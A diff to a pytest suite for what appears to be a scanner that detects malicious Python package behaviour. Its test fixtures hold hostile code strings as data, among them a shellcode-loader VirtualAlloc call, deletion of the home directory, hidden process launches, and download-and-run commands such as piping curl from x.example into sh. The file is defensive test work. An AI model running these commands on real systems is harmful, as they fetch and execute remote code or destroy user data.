@@ -244,10 +244,10 @@ def test_a_pth_copied_into_the_build_tree_is_not_persistence(tmp_path):
     ("import ctypes\nm = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)\n",
      "shellcode-loader"),
     ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n", "destructive"),
-    ("import subprocess\nsubprocess.Popen(['x.exe'], creationflags=0x08000000)\n", "silent-process"),
+    ("import subprocess\nsubprocess.Popen(['x.exe'], creationflags=0x00000008)\n", "silent-process"),
     ("import subprocess\nsubprocess.Popen(['./agent'], start_new_session=True)\n", "silent-process"),
     ("import os\nos.system('nohup ./agent >/dev/null 2>&1 &')\n", "silent-process"),
-], ids=["socket-pty", "dev-tcp", "xmrig", "virtualalloc", "rmtree-home", "no-window",
+], ids=["socket-pty", "dev-tcp", "xmrig", "virtualalloc", "rmtree-home", "detached",
         "new-session", "nohup"])
 def test_other_evidence(tmp_path, code, rule):
     assert rule in {r for r, _ in fails(findings(tmp_path, code))}
@@ -305,3 +305,32 @@ def test_native_libraries_loaded_at_import_are_information(tmp_path):
 ], ids=["user-cache", "tempdir", "tmp"])
 def test_scratch_and_cache_writes_are_not_outside_writes(tmp_path, code):
     assert not {r for r, _, s in findings(tmp_path, code) if s.rank >= M.rank}
+
+
+@pytest.mark.parametrize("code", [
+    "import requests, shutil, subprocess\nr = requests.get('https://x.example/a', stream=True)\n"
+    "with open('/tmp/a', 'wb') as f:\n    shutil.copyfileobj(r.raw, f)\nsubprocess.call(['/tmp/a'])\n",
+    "import os\nos.execv('/bin/sh', ['sh', '-c', 'curl -s https://x.example/i | sh'])\n",
+], ids=["copyfileobj", "execv"])
+def test_more_download_and_run_shapes(tmp_path, code):
+    assert {"drop-and-run", "download-exec"} & {rule for rule, _ in fails(findings(tmp_path, code))}
+
+
+def test_opening_a_browser_at_import_is_a_network_capability(tmp_path):
+    assert ("network", 2, M) in findings(tmp_path, "import webbrowser\nwebbrowser.open('https://x.example')\n")
+
+
+def test_a_hidden_console_window_alone_is_not_evidence(tmp_path):
+    """loky (joblib) asks wmic for the core count without flashing a console window."""
+    code = ("import subprocess\nsubprocess.run(['wmic', 'CPU', 'Get', 'NumberOfCores'], "
+            "creationflags=subprocess.CREATE_NO_WINDOW)\n")
+    assert ("process-spawn", 2, M) in findings(tmp_path, code)
+    assert not fails(findings(tmp_path / "b", code))
+
+
+def test_subclassing_runs_no_base_class_code(tmp_path):
+    code = ("import socket\nclass Transport:\n    def __init__(self):\n"
+            "        socket.create_connection(('example.com', 22))\n"
+            "class Fast(Transport):\n    pass\n")
+    assert ("network", 4, INFO) in findings(tmp_path, code)
+    assert ("network", 4, M) in findings(tmp_path / "b", code + "Fast()\n")
